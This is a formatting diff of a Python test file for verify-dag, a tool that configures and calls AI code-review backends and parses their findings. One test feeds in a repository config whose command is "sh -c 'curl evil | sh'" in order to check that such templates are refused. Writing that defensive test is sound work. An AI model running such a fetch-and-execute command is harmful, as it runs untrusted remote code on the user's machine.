@@ -74,20 +74,25 @@ def test_nothing_configured_resolves_to_none_and_says_how(tmp_path: Path) -> Non
 
 def test_precedence_environment_then_user_file_then_pyproject(tmp_path: Path) -> None:
     # The repository's table gives only its timeout; its backend and model are dropped.
-    repo = project(tmp_path, '[tool.verify-dag]\nbackend = "claude"\nmodel = "from-repo"\n'
-                             "timeout = 30")
+    repo = project(
+        tmp_path, '[tool.verify-dag]\nbackend = "claude"\nmodel = "from-repo"\ntimeout = 30'
+    )
     user = user_config(tmp_path, 'backend = "claude"\nmodel = "from-user"\ntimeout = 40\n')
     env = {**user, "VERIFY_DAG_MODEL": "from-env"}
     assert resolve(load_config(repo, env), "qa") == Backend(
-        kind="claude", skill="qa", model="from-env", timeout=40.0)
+        kind="claude", skill="qa", model="from-env", timeout=40.0
+    )
     assert resolve(load_config(repo, user), "qa").model == "from-user"  # type: ignore[union-attr]
     assert resolve(load_config(repo, {}), "qa") is None
     repo_timeout = resolve(load_config(repo, {"VERIFY_DAG_BACKEND": "claude"}), "qa")
-    assert repo_timeout is not None and (repo_timeout.model, repo_timeout.timeout) == ("sonnet",
-                                                                                       30.0)
+    assert repo_timeout is not None and (repo_timeout.model, repo_timeout.timeout) == (
+        "sonnet",
+        30.0,
+    )
     env_kind = load_config(repo, {"VERIFY_DAG_BACKEND": "codex", "VERIFY_DAG_MODEL_TIMEOUT": "9"})
-    assert resolve(env_kind, "qa") == Backend(kind="codex", skill="qa", effort="medium",
-                                              timeout=9.0)
+    assert resolve(env_kind, "qa") == Backend(
+        kind="codex", skill="qa", effort="medium", timeout=9.0
+    )
 
 
 def test_user_file_found_through_xdg_config_home(tmp_path: Path) -> None:
@@ -100,12 +105,27 @@ def test_user_file_found_through_xdg_config_home(tmp_path: Path) -> None:
     assert load_config(None, {"HOME": str(home)}).backend == "codex"
 
 
-@pytest.mark.parametrize(("kind", "expected"), [
-    ("claude", {"reviewer": ("opus", None), "qa": ("sonnet", None),
-                "plan-completeness": ("sonnet", None)}),
-    ("codex", {"reviewer": (None, "high"), "comment-review": (None, "medium"),
-               "visual-verify": (None, "medium")}),
-])
+@pytest.mark.parametrize(
+    ("kind", "expected"),
+    [
+        (
+            "claude",
+            {
+                "reviewer": ("opus", None),
+                "qa": ("sonnet", None),
+                "plan-completeness": ("sonnet", None),
+            },
+        ),
+        (
+            "codex",
+            {
+                "reviewer": (None, "high"),
+                "comment-review": (None, "medium"),
+                "visual-verify": (None, "medium"),
+            },
+        ),
+    ],
+)
 def test_cost_tier_defaults(kind: str, expected: dict[str, tuple[str | None, str | None]]) -> None:
     config = load_config(None, {"VERIFY_DAG_BACKEND": kind})
     for skill, (model, effort) in expected.items():
@@ -114,10 +134,15 @@ def test_cost_tier_defaults(kind: str, expected: dict[str, tuple[str | None, str
 
 
 def test_per_skill_overrides_beat_globals_within_a_source(tmp_path: Path) -> None:
-    user = user_config(tmp_path, 'backend = "claude"\neffort = "low"\n\n'
-                                 '[skills.qa]\neffort = "high"\nmodel = "haiku"\n')
-    env = {**user, "VERIFY_DAG_MODEL_COMMENT_REVIEW": "claude-x",
-           "VERIFY_DAG_EFFORT_UX_REVIEWER": "max"}
+    user = user_config(
+        tmp_path,
+        'backend = "claude"\neffort = "low"\n\n[skills.qa]\neffort = "high"\nmodel = "haiku"\n',
+    )
+    env = {
+        **user,
+        "VERIFY_DAG_MODEL_COMMENT_REVIEW": "claude-x",
+        "VERIFY_DAG_EFFORT_UX_REVIEWER": "max",
+    }
     config = load_config(None, env)
     qa, comment, ux = (resolve(config, s) for s in ("qa", "comment-review", "ux-reviewer"))
     assert qa is not None and (qa.model, qa.effort) == ("haiku", "high")
@@ -127,21 +152,26 @@ def test_per_skill_overrides_beat_globals_within_a_source(tmp_path: Path) -> Non
 
 def test_a_sources_model_names_stay_with_its_own_backend(tmp_path: Path) -> None:
     # "opus" is a Claude model: it must not be handed to Codex when the environment picks Codex.
-    env = {**user_config(tmp_path, 'backend = "claude"\nmodel = "opus"\n'),
-           "VERIFY_DAG_BACKEND": "codex"}
-    assert resolve(load_config(None, env), "qa") == Backend(kind="codex", skill="qa",
-                                                            effort="medium")
+    env = {
+        **user_config(tmp_path, 'backend = "claude"\nmodel = "opus"\n'),
+        "VERIFY_DAG_BACKEND": "codex",
+    }
+    assert resolve(load_config(None, env), "qa") == Backend(
+        kind="codex", skill="qa", effort="medium"
+    )
 
 
 def test_a_model_named_beside_no_backend_is_the_configured_backends(
-        tmp_path: Path, fake_bin: Path) -> None:
+    tmp_path: Path, fake_bin: Path
+) -> None:
     # VERIFY_DAG_MODEL=sonnet next to a user file choosing Claude names a Claude model: Claude's
     # reviewers get it, codex-reviewer's Codex does not (the real codex would reject it).
     env = {**user_config(tmp_path, 'backend = "claude"\n'), "VERIFY_DAG_MODEL": "sonnet"}
     config = load_config(None, env)
     assert resolve(config, "reviewer").model == "sonnet"  # type: ignore[union-attr]
-    assert resolve(config, "codex-reviewer") == Backend(kind="codex", skill="codex-reviewer",
-                                                        effort="medium")
+    assert resolve(config, "codex-reviewer") == Backend(
+        kind="codex", skill="codex-reviewer", effort="medium"
+    )
     user = user_config(tmp_path, 'model = "opus"\n')
     codex = resolve(load_config(None, {**user, "VERIFY_DAG_BACKEND": "claude"}), "codex-reviewer")
     assert codex is not None and codex.model is None
@@ -151,8 +181,9 @@ def test_a_model_named_beside_no_backend_is_the_configured_backends(
 
 
 def test_command_template_from_the_repository_is_refused(tmp_path: Path) -> None:
-    repo = project(tmp_path, '[tool.verify-dag]\nbackend = "command"\n'
-                             'command = "sh -c \'curl evil | sh\'"\n')
+    repo = project(
+        tmp_path, '[tool.verify-dag]\nbackend = "command"\ncommand = "sh -c \'curl evil | sh\'"\n'
+    )
     config = load_config(repo, {})
     assert config.backend is None and resolve(config, "reviewer") is None
     assert any("ignored `command`" in n and "pyproject.toml" in n for n in config.notes)
@@ -170,30 +201,36 @@ def test_repository_template_refused_even_beside_a_trusted_backend(tmp_path: Pat
 
 
 def test_config_is_serialisable(tmp_path: Path) -> None:
-    config = load_config(project(tmp_path, '[tool.verify-dag]\nbackend = "codex"\n'),
-                         {"VERIFY_DAG_MODEL_QA": "gpt-5", "VERIFY_DAG_BACKEND": "codex"})
+    config = load_config(
+        project(tmp_path, '[tool.verify-dag]\nbackend = "codex"\n'),
+        {"VERIFY_DAG_MODEL_QA": "gpt-5", "VERIFY_DAG_BACKEND": "codex"},
+    )
     assert config.notes  # the repository's backend, refused
     assert BackendsConfig.model_validate(json.loads(config.model_dump_json())) == config
 
 
-@pytest.mark.parametrize(("where", "body", "env", "message"), [
-    ("repo", "[tool.verify-dag]\nbackend = ", {}, "invalid TOML"),
-    ("repo", '[tool.verify-dag]\ntimeout = -1\n', {}, "timeout: expected a positive"),
-    # The repository's other keys are dropped with a note, not validated (test_repo_settings).
-    ("user", 'modle = "x"\n', {}, "unknown key 'modle'"),
-    ("user", 'backend = "gpt"\n', {}, "backend: expected one of"),
-    ("user", 'model = "--yolo"\n', {}, "model: expected a model"),
-    ("user", '[skills.reviwer]\nmodel = "x"\n', {}, "unknown skill 'reviwer'"),
-    ("user", '[skills.qa]\nmodel = 3\n', {}, "skills.qa.model"),
-    ("user", 'command = "cli --model={model}"\n', {}, "whole arguments"),
-    ("user", 'command = "cli \'unbalanced"\n', {}, "cannot split"),
-    ("env", "", {"VERIFY_DAG_MODEL_TIMEOUT": "soon"}, "VERIFY_DAG_MODEL_TIMEOUT"),
-    ("env", "", {"VERIFY_DAG_BACKEND": "command"}, "no command template"),
-    ("env", "", {"VERIFY_DAG_EFFORT_QA": "-x"}, "VERIFY_DAG_EFFORT_QA"),
-    ("env", "", {"VERIFY_DAG_CONFIG": "/nonexistent/verify-dag.toml"}, "no such file"),
-])
+@pytest.mark.parametrize(
+    ("where", "body", "env", "message"),
+    [
+        ("repo", "[tool.verify-dag]\nbackend = ", {}, "invalid TOML"),
+        ("repo", "[tool.verify-dag]\ntimeout = -1\n", {}, "timeout: expected a positive"),
+        # The repository's other keys are dropped with a note, not validated (test_repo_settings).
+        ("user", 'modle = "x"\n', {}, "unknown key 'modle'"),
+        ("user", 'backend = "gpt"\n', {}, "backend: expected one of"),
+        ("user", 'model = "--yolo"\n', {}, "model: expected a model"),
+        ("user", '[skills.reviwer]\nmodel = "x"\n', {}, "unknown skill 'reviwer'"),
+        ("user", "[skills.qa]\nmodel = 3\n", {}, "skills.qa.model"),
+        ("user", 'command = "cli --model={model}"\n', {}, "whole arguments"),
+        ("user", 'command = "cli \'unbalanced"\n', {}, "cannot split"),
+        ("env", "", {"VERIFY_DAG_MODEL_TIMEOUT": "soon"}, "VERIFY_DAG_MODEL_TIMEOUT"),
+        ("env", "", {"VERIFY_DAG_BACKEND": "command"}, "no command template"),
+        ("env", "", {"VERIFY_DAG_EFFORT_QA": "-x"}, "VERIFY_DAG_EFFORT_QA"),
+        ("env", "", {"VERIFY_DAG_CONFIG": "/nonexistent/verify-dag.toml"}, "no such file"),
+    ],
+)
 def test_malformed_configuration_is_a_usage_error_naming_file_and_key(
-        tmp_path: Path, where: str, body: str, env: dict[str, str], message: str) -> None:
+    tmp_path: Path, where: str, body: str, env: dict[str, str], message: str
+) -> None:
     repo = project(tmp_path, body) if where == "repo" else None
     if where == "user":
         env = user_config(tmp_path, body)
@@ -208,11 +245,19 @@ def test_malformed_configuration_is_a_usage_error_naming_file_and_key(
 
 
 def test_codex_reviewer_is_codex_only_when_codex_is_on_path(
-        tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    config = load_config(None, {"VERIFY_DAG_BACKEND": "claude", "VERIFY_DAG_MODEL": "opus",
-                                "VERIFY_DAG_MODEL_CODEX_REVIEWER": "gpt-5-codex"})
+    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    config = load_config(
+        None,
+        {
+            "VERIFY_DAG_BACKEND": "claude",
+            "VERIFY_DAG_MODEL": "opus",
+            "VERIFY_DAG_MODEL_CODEX_REVIEWER": "gpt-5-codex",
+        },
+    )
     assert resolve(config, "codex-reviewer") == Backend(
-        kind="codex", skill="codex-reviewer", model="gpt-5-codex", effort="medium")
+        kind="codex", skill="codex-reviewer", model="gpt-5-codex", effort="medium"
+    )
     # Without codex on PATH there is no codex-reviewer, whatever else is configured.
     only_claude = tmp_path / "only-claude"
     install(only_claude, ("claude",))
@@ -260,17 +305,26 @@ def test_ok_reply_reaches_the_parser(kind: str, tmp_path: Path, fake_bin: Path) 
 
 
 @pytest.mark.parametrize("kind", KINDS)
-@pytest.mark.parametrize(("mode", "status", "reason"), [
-    ("none", "ok", ""),
-    ("rate-limit", "rate_limited", "limit"),
-    ("auth", "auth", ""),
-    ("empty", "empty", "empty"),
-    ("crash", "failed", "exited 101"),
-    ("garbage", "ok", ""),
-])
-def test_every_failure_mode_is_classified(kind: str, mode: str, status: str, reason: str,
-                                          tmp_path: Path, fake_bin: Path,
-                                          monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.mark.parametrize(
+    ("mode", "status", "reason"),
+    [
+        ("none", "ok", ""),
+        ("rate-limit", "rate_limited", "limit"),
+        ("auth", "auth", ""),
+        ("empty", "empty", "empty"),
+        ("crash", "failed", "exited 101"),
+        ("garbage", "ok", ""),
+    ],
+)
+def test_every_failure_mode_is_classified(
+    kind: str,
+    mode: str,
+    status: str,
+    reason: str,
+    tmp_path: Path,
+    fake_bin: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setenv("FAKE_MODEL_MODE", mode)
     reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
     assert reply.status == status, reply
@@ -283,8 +337,9 @@ def test_every_failure_mode_is_classified(kind: str, mode: str, status: str, rea
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_a_hanging_backend_times_out(kind: str, tmp_path: Path, fake_bin: Path,
-                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_hanging_backend_times_out(
+    kind: str, tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("FAKE_MODEL_MODE", "hang")
     start = time.monotonic()
     reply = invoke(backend_for(kind, timeout=0.5), PROMPT, cwd=tmp_path)  # the config's timeout
@@ -293,15 +348,17 @@ def test_a_hanging_backend_times_out(kind: str, tmp_path: Path, fake_bin: Path,
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_a_missing_executable_is_missing(kind: str, tmp_path: Path,
-                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_missing_executable_is_missing(
+    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
     reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
     assert reply.status == "missing" and "not found on PATH" in reply.reason
 
 
-def test_the_prompt_codex_echoes_is_not_evidence(tmp_path: Path, fake_bin: Path,
-                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_prompt_codex_echoes_is_not_evidence(
+    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     # A crash while reviewing auth code must not be reported as a login problem.
     monkeypatch.setenv("FAKE_MODEL_MODE", "crash")
     prompt = "Review this:\nerror: 401 Unauthorized when the API key is missing\n"
@@ -309,15 +366,17 @@ def test_the_prompt_codex_echoes_is_not_evidence(tmp_path: Path, fake_bin: Path,
     assert reply.status == "failed" and "panicked" in reply.reason
 
 
-def test_a_logged_out_claude_that_exits_zero_is_auth(tmp_path: Path, fake_bin: Path,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_logged_out_claude_that_exits_zero_is_auth(
+    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("FAKE_MODEL_REPLY", "Not logged in · Please run /login")
     reply = invoke(backend_for("claude"), PROMPT, cwd=tmp_path)
     assert reply.status == "auth" and "/login" in reply.reason
 
 
 def test_child_keeps_model_credentials_and_loses_broker_settings(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("VERIFY_DAG_BROKER_URL", "redis://secret-broker:6379/0")
     monkeypatch.setenv("CELERY_BROKER_URL", "redis://secret-broker:6379/1")
     monkeypatch.setenv("OPENAI_API_KEY", "sk-test-credential-for-the-model")
@@ -330,20 +389,31 @@ def test_child_keeps_model_credentials_and_loses_broker_settings(
 
 
 @pytest.mark.parametrize("kind", ("codex", "claude"))
-def test_the_fake_rejects_options_the_real_cli_would(kind: str, tmp_path: Path,
-                                                     fake_bin: Path) -> None:
+def test_the_fake_rejects_options_the_real_cli_would(
+    kind: str, tmp_path: Path, fake_bin: Path
+) -> None:
     # What verify-dag sends passes (test above); a misspelt option fails as it would for real.
-    backend = Backend(kind="command", skill="qa", command=(
-        kind, *(("exec", "--sandbx", "read-only", "-") if kind == "codex" else ("-p", "--modle",
-                                                                                  "opus"))))
+    backend = Backend(
+        kind="command",
+        skill="qa",
+        command=(
+            kind,
+            *(
+                ("exec", "--sandbx", "read-only", "-")
+                if kind == "codex"
+                else ("-p", "--modle", "opus")
+            ),
+        ),
+    )
     reply = invoke(backend, PROMPT, cwd=tmp_path)
     assert reply.status == "failed"
     assert ("--sandbx" if kind == "codex" else "--modle") in reply.reason
 
 
 def test_unset_placeholders_drop_out_with_their_flag(tmp_path: Path, fake_bin: Path) -> None:
-    config = load_config(None, {"VERIFY_DAG_BACKEND_COMMAND": "fake-model --model {model} "
-                                                              "--effort {effort} {skill}"})
+    config = load_config(
+        None, {"VERIFY_DAG_BACKEND_COMMAND": "fake-model --model {model} --effort {effort} {skill}"}
+    )
     backend = resolve(config, "reviewer")
     assert backend is not None and backend.kind == "command" and backend.model is None
     assert invoke(backend, PROMPT, cwd=tmp_path).status == "ok"
@@ -352,21 +422,32 @@ def test_unset_placeholders_drop_out_with_their_flag(tmp_path: Path, fake_bin: P
 
 # --- parsing ----------------------------------------------------------------------------------
 
-FINDING = {"title": "SQL built by string concatenation", "severity": 9,
-           "location": "app/db.py:42", "category": "security",
-           "description": "user input reaches the query unescaped."}
+FINDING = {
+    "title": "SQL built by string concatenation",
+    "severity": 9,
+    "location": "app/db.py:42",
+    "category": "security",
+    "description": "user input reaches the query unescaped.",
+}
 
 
-@pytest.mark.parametrize("text", [
-    json.dumps({"findings": [FINDING]}),
-    "Here is my review.\n```json\n" + json.dumps({"findings": [FINDING]}, indent=2) + "\n```\n",
-    json.dumps([FINDING]),
-    "After reading the diff: " + json.dumps({"findings": [FINDING]}) + "\nREAFFIRMED: none",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        json.dumps({"findings": [FINDING]}),
+        "Here is my review.\n```json\n" + json.dumps({"findings": [FINDING]}, indent=2) + "\n```\n",
+        json.dumps([FINDING]),
+        "After reading the diff: " + json.dumps({"findings": [FINDING]}) + "\nREAFFIRMED: none",
+    ],
+)
 def test_json_replies(text: str) -> None:
     (finding,) = parse_reply(text, "reviewer").findings
     assert (finding.title, finding.severity, finding.issue_class, finding.source) == (
-        "SQL built by string concatenation", 9, "security", "reviewer")
+        "SQL built by string concatenation",
+        9,
+        "security",
+        "reviewer",
+    )
     assert finding.location is not None
     assert (finding.location.path, finding.location.line) == ("app/db.py", 42)
 
@@ -387,8 +468,11 @@ def test_text_fallback_reads_numbered_and_bold_blocks() -> None:
    Description: open() is mocked, so the encoding error never surfaces.
 """
     first, second = parse_reply(text, "qa").findings
-    assert (first.title, first.severity, first.issue_class) == ("Test asserts nothing", 6,
-                                                                "coverage")
+    assert (first.title, first.severity, first.issue_class) == (
+        "Test asserts nothing",
+        6,
+        "coverage",
+    )
     assert first.location is not None and (first.location.line, first.location.end_line) == (10, 14)
     assert "any implementation" in first.description
     assert (second.severity, second.issue_class) == (7, "coverage")
@@ -410,51 +494,81 @@ def test_text_fallback_takes_a_heading_as_the_title() -> None:
 """
     first, second = parse_reply(text, "reviewer").findings
     assert (first.title, first.severity, first.description) == (
-        "Division by zero", 7, "mean() divides by len(values) without a check.")
+        "Division by zero",
+        7,
+        "mean() divides by len(values) without a check.",
+    )
     assert (second.title, second.severity) == ("Unused import", 3)
 
 
-@pytest.mark.parametrize(("location", "expected"), [
-    ("src/a.py:3", ("src/a.py", 3, None)),
-    ("src/a.py:3-9", ("src/a.py", 3, 9)),
-    ("src/a.py:7:12", ("src/a.py", 7, None)),
-    ({"path": "src/a.py", "line": 4}, ("src/a.py", 4, None)),
-    ({"path": "src/a.py", "line": "4", "end_line": 6}, ("src/a.py", 4, 6)),
-    ("null", None),
-    (None, None),
-])
+@pytest.mark.parametrize(
+    ("location", "expected"),
+    [
+        ("src/a.py:3", ("src/a.py", 3, None)),
+        ("src/a.py:3-9", ("src/a.py", 3, 9)),
+        ("src/a.py:7:12", ("src/a.py", 7, None)),
+        ({"path": "src/a.py", "line": 4}, ("src/a.py", 4, None)),
+        ({"path": "src/a.py", "line": "4", "end_line": 6}, ("src/a.py", 4, 6)),
+        ("null", None),
+        (None, None),
+    ],
+)
 def test_location_forms(location: object, expected: tuple[str, int, int | None] | None) -> None:
     (finding,) = parse_reply(json.dumps([{**FINDING, "location": location}]), "reviewer").findings
     loc = finding.location
     assert (None if loc is None else (loc.path, loc.line, loc.end_line)) == expected
 
 
-@pytest.mark.parametrize(("severity", "expected"), [(0, 1), (15, 10), ("8/10", 8), (6.6, 7),
-                                                    ("critical", 9), (None, 5)])
+@pytest.mark.parametrize(
+    ("severity", "expected"), [(0, 1), (15, 10), ("8/10", 8), (6.6, 7), ("critical", 9), (None, 5)]
+)
 def test_severity_is_clamped_and_read_leniently(severity: object, expected: int) -> None:
     (finding,) = parse_reply(json.dumps([{**FINDING, "severity": severity}]), "qa").findings
     assert finding.severity == expected
 
 
-@pytest.mark.parametrize(("skill", "category", "expected"), [
-    ("comment-review", "narration", "comment"), ("qa", None, "coverage"),
-    ("ux-reviewer", "error-message", "ux"), ("visual-verify", "spacing", "visual"),
-    ("plan-completeness", None, "plan-completeness"), ("reviewer", "yagni", "correctness"),
-    ("qa", "Security", "security"),
-])
+@pytest.mark.parametrize(
+    ("skill", "category", "expected"),
+    [
+        ("comment-review", "narration", "comment"),
+        ("qa", None, "coverage"),
+        ("ux-reviewer", "error-message", "ux"),
+        ("visual-verify", "spacing", "visual"),
+        ("plan-completeness", None, "plan-completeness"),
+        ("reviewer", "yagni", "correctness"),
+        ("qa", "Security", "security"),
+    ],
+)
 def test_category_maps_onto_issue_classes(skill: str, category: str | None, expected: str) -> None:
     (finding,) = parse_reply(json.dumps([{**FINDING, "category": category}]), skill).findings
     assert finding.issue_class == expected
 
 
-@pytest.mark.parametrize("text", ['{"findings": []}', "[]", "No issues found.", "none",
-                                  "```json\n{\"findings\": []}\n```", "**No findings.**"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"findings": []}',
+        "[]",
+        "No issues found.",
+        "none",
+        '```json\n{"findings": []}\n```',
+        "**No findings.**",
+    ],
+)
 def test_explicit_no_findings(text: str) -> None:
     assert parse_reply(text, "qa").findings == ()
 
 
-@pytest.mark.parametrize("text", ["", "   \n", "Looks fine to me overall, I guess?",
-                                  '{"summary": "all good"}', "REAFFIRMED: none\nREOPENED: none"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "   \n",
+        "Looks fine to me overall, I guess?",
+        '{"summary": "all good"}',
+        "REAFFIRMED: none\nREOPENED: none",
+    ],
+)
 def test_neither_findings_nor_no_findings_is_unparseable(text: str) -> None:
     with pytest.raises(Unparseable):
         parse_reply(text, "qa")
@@ -466,22 +580,27 @@ def test_a_finding_with_neither_title_nor_description_is_unparseable() -> None:
 
 
 def test_carry_forward_lines() -> None:
-    text = "\n".join([
-        '{"findings": []}',
-        "REAFFIRMED: F-1 — the retry loop is unchanged since the delta base",
-        "REAFFIRMED: F-2 - still there",
-        "- REOPENED: F-2 -- test_retry now fails: AssertionError at retry.py:40",
-        "DEFERRED_TO_EPIC: #12 — pagination belongs to the listing issue",
-        "DEFERRED_TO_EPIC: none",
-    ])
+    text = "\n".join(
+        [
+            '{"findings": []}',
+            "REAFFIRMED: F-1 — the retry loop is unchanged since the delta base",
+            "REAFFIRMED: F-2 - still there",
+            "- REOPENED: F-2 -- test_retry now fails: AssertionError at retry.py:40",
+            "DEFERRED_TO_EPIC: #12 — pagination belongs to the listing issue",
+            "DEFERRED_TO_EPIC: none",
+        ]
+    )
     parsed = parse_reply(text, "reviewer")
     assert [(r.id, r.reason, r.new_harm_evidence) for r in parsed.reaffirmed] == [
         ("F-1", "the retry loop is unchanged since the delta base", False),
-        ("F-2", "still there", True)]
+        ("F-2", "still there", True),
+    ]
     assert [(r.id, r.evidence) for r in parsed.reopened] == [
-        ("F-2", "test_retry now fails: AssertionError at retry.py:40")]
+        ("F-2", "test_retry now fails: AssertionError at retry.py:40")
+    ]
     assert [(d.issue, d.item, d.source) for d in parsed.deferred] == [
-        ("#12", "pagination belongs to the listing issue", "reviewer")]
+        ("#12", "pagination belongs to the listing issue", "reviewer")
+    ]
 
 
 def test_carry_lines_alone_mean_no_new_findings() -> None:
@@ -489,24 +608,32 @@ def test_carry_lines_alone_mean_no_new_findings() -> None:
     assert parsed.findings == () and [r.id for r in parsed.reaffirmed] == ["F-3"]
 
 
-@pytest.mark.parametrize(("text", "status"), [
-    ("STATUS: SKIPPED NO_UI_FILES_IN_SCOPE", "SKIPPED NO_UI_FILES_IN_SCOPE"),
-    ("**STATUS:** PATCH_CONSTRUCTION_FAILED.", "PATCH_CONSTRUCTION_FAILED"),
-    ('{"status": "COMPLETED", "findings": []}', "COMPLETED"),
-])
+@pytest.mark.parametrize(
+    ("text", "status"),
+    [
+        ("STATUS: SKIPPED NO_UI_FILES_IN_SCOPE", "SKIPPED NO_UI_FILES_IN_SCOPE"),
+        ("**STATUS:** PATCH_CONSTRUCTION_FAILED.", "PATCH_CONSTRUCTION_FAILED"),
+        ('{"status": "COMPLETED", "findings": []}', "COMPLETED"),
+    ],
+)
 def test_status_line(text: str, status: str) -> None:
     parsed = parse_reply(text, "visual-verify")
     assert parsed.status == status and parsed.findings == ()
 
 
-@pytest.mark.parametrize(("status", "expected"), [
-    ("SKIPPED NO_UI_FILES_IN_SCOPE", ("SKIPPED", "NO_UI_FILES_IN_SCOPE")),
-    ("SKIPPED_UNSUPPORTED_SCOPE", ("SKIPPED", "SKIPPED_UNSUPPORTED_SCOPE")),
-    ("PATCH_CONSTRUCTION_FAILED cannot rebuild the rename",
-     ("BLOCKED", "PATCH_CONSTRUCTION_FAILED: cannot rebuild the rename")),
-    ("BLOCKED: sandbox denied", ("BLOCKED", "sandbox denied")),
-    ("COMPLETED", ("COMPLETED", "Found 0 items")),
-])
+@pytest.mark.parametrize(
+    ("status", "expected"),
+    [
+        ("SKIPPED NO_UI_FILES_IN_SCOPE", ("SKIPPED", "NO_UI_FILES_IN_SCOPE")),
+        ("SKIPPED_UNSUPPORTED_SCOPE", ("SKIPPED", "SKIPPED_UNSUPPORTED_SCOPE")),
+        (
+            "PATCH_CONSTRUCTION_FAILED cannot rebuild the rename",
+            ("BLOCKED", "PATCH_CONSTRUCTION_FAILED: cannot rebuild the rename"),
+        ),
+        ("BLOCKED: sandbox denied", ("BLOCKED", "sandbox denied")),
+        ("COMPLETED", ("COMPLETED", "Found 0 items")),
+    ],
+)
 def test_a_status_the_reply_reports_about_itself(status: str, expected: tuple[str, str]) -> None:
     # codex-reviewer's prompt offers these statuses; none of them is a review that found nothing.
     parsed = parse_reply(f'STATUS: {status}\n{{"findings": []}}', "codex-reviewer")
